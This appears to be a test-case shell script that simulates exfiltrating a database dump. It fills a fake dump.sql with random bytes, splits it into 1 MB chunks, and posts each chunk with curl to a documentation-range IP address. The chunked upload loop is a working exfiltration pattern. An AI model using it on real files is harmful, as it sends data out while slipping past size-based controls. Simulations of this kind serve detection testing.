#!/bin/sh
. /opt/case/case.sh

head -c 50331648 /dev/urandom >/tmp/dump.sql
split -b 1M /tmp/dump.sql /tmp/part.
for part in /tmp/part.*; do curl -s --data-binary @"$part" -o /dev/null http://203.0.113.10/p; done
took_place
